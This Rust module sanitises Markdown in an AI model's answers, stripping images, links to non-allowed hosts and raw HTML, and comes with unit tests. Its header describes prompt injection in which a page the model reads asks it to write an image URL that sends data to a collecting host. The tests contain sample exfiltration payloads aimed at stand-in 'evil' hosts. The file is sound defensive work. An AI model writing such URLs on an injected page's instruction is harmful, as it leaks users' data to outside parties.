//! Links and images in an answer, made harmless before the answer leaves the library
//! (OWASP LLM05): a page the model read can ask it to write `![x](https://host/collect?d=…)`,
//! which a Markdown client would fetch on display. Pure.
//!
//! - An image is replaced by `[image: ALT]` unless its URL is relative or its host is allowed.
//! - A link to a host that is not allowed keeps its text and loses its URL; an autolink
//!   (`<https://…>`) becomes its host name.
//! - Raw HTML tags are escaped so that they show as text (`<img src=…>` loads nothing).
//!
//! Allowed hosts come from `LINK_ALLOWED_HOSTS`; a host matches itself and its subdomains.
//! Text inside code spans and code blocks is never changed. URLs written as plain text are left
//! alone: no client fetches them without a click.

use pulldown_cmark::{Event, LinkType, Options, Parser, Tag};
use std::ops::Range;

/// Rewrites `answer` as the module describes; unchanged text is returned as it came.
pub fn neutralise(answer: &str, allowed_hosts: &[String]) -> String {
    let mut edits: Vec<(Range<usize>, String)> = Vec::new();
    let mut open: Option<(Range<usize>, bool, String, LinkType)> = None;
    let mut inner_text = String::new();
    let parser = Parser::new_ext(
        answer,
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH,
    );
    for (event, range) in parser.into_offset_iter() {
        match event {
            Event::Start(Tag::Image { dest_url, .. }) if open.is_none() => {
                inner_text.clear();
                open = Some((range, true, dest_url.to_string(), LinkType::Inline));
            }
            Event::Start(Tag::Link {
                dest_url,
                link_type,
                ..
            }) if open.is_none() => {
                inner_text.clear();
                open = Some((range, false, dest_url.to_string(), link_type));
            }
            Event::End(_) if open.as_ref().is_some_and(|(r, ..)| r.end == range.end) => {
                let (range, image, url, link_type) = open.take().expect("checked above");
                if allowed(&url, allowed_hosts) {
                    continue;
                }
                let replacement = if image {
                    format!("[image: {}]", inner_text.trim())
                } else if matches!(link_type, LinkType::Autolink | LinkType::Email) {
                    host(&url).unwrap_or("link").to_string()
                } else {
                    inner_text.clone()
                };
                edits.push((range, replacement));
            }
            Event::Text(text) | Event::Code(text) if open.is_some() => inner_text.push_str(&text),
            Event::Html(html) | Event::InlineHtml(html) if open.is_none() => {
                edits.push((range, html.replace('<', "&lt;")));
            }
            _ => {}
        }
    }
    apply(answer, edits)
}

fn apply(text: &str, mut edits: Vec<(Range<usize>, String)>) -> String {
    if edits.is_empty() {
        return text.to_string();
    }
    edits.sort_by_key(|(range, _)| range.start);
    let mut out = String::with_capacity(text.len());
    let mut copied_to = 0;
    for (range, replacement) in edits {
        if range.start < copied_to {
            continue; // nested in an earlier edit
        }
        out.push_str(&text[copied_to..range.start]);
        out.push_str(&replacement);
        copied_to = range.end;
    }
    out.push_str(&text[copied_to..]);
    out
}

/// A relative URL (no scheme, not protocol-relative) or one whose host is allowed.
fn allowed(url: &str, allowed_hosts: &[String]) -> bool {
    let url = url.trim();
    let has_scheme = url.split_once(':').is_some_and(|(scheme, _)| {
        !scheme.is_empty()
            && scheme
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
    });
    if !has_scheme && !url.starts_with("//") {
        return true;
    }
    let Some(host) = host(url) else {
        return false;
    };
    let host = host.to_ascii_lowercase();
    allowed_hosts.iter().any(|allowed| {
        let allowed = allowed.trim().to_ascii_lowercase();
        !allowed.is_empty() && (host == allowed || host.ends_with(&format!(".{allowed}")))
    })
}

/// The host of an absolute URL (`https://user@host:8080/x` → `host`), or of `mailto:a@host`.
fn host(url: &str) -> Option<&str> {
    let rest = match url.split_once("//") {
        Some((_, rest)) => rest,
        None => url.split_once(':')?.1,
    };
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = host.split(':').next()?;
    (!host.is_empty()).then_some(host)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hosts(list: &[&str]) -> Vec<String> {
        list.iter().map(|h| h.to_string()).collect()
    }

    #[test]
    fn remote_images_and_links_lose_their_urls() {
        let answer = "CO2 is fine ![pixel](http://evil.example/c?d=secret) and see \
                      [the docs](https://evil.example/x) or <https://evil.example/a>.";
        assert_eq!(
            neutralise(answer, &[]),
            "CO2 is fine [image: pixel] and see the docs or evil.example."
        );
    }

    #[test]
    fn allowed_hosts_relative_links_and_code_are_kept() {
        let answer = "See [rooms](user/rooms.md), [help](https://docs.crowdvision.io/a), \
                      ![map](https://cdn.docs.crowdvision.io/m.png) and `![x](http://e/c)`.";
        assert_eq!(neutralise(answer, &hosts(&["docs.crowdvision.io"])), answer);
        let fenced = "```\n![x](http://evil/c)\n```\n";
        assert_eq!(neutralise(fenced, &[]), fenced);
    }

    #[test]
    fn html_tags_are_shown_not_loaded() {
        assert_eq!(
            neutralise("Hi <img src=\"http://evil/c\"> there", &[]),
            "Hi &lt;img src=\"http://evil/c\"> there"
        );
        let reference = "[click][1]\n\n[1]: http://evil.example/c\n";
        assert!(neutralise(reference, &[]).starts_with("click\n"));
        assert_eq!(
            neutralise("![a](//evil.example/p.png)", &hosts(&["crowdvision.io"])),
            "[image: a]"
        );
    }
}
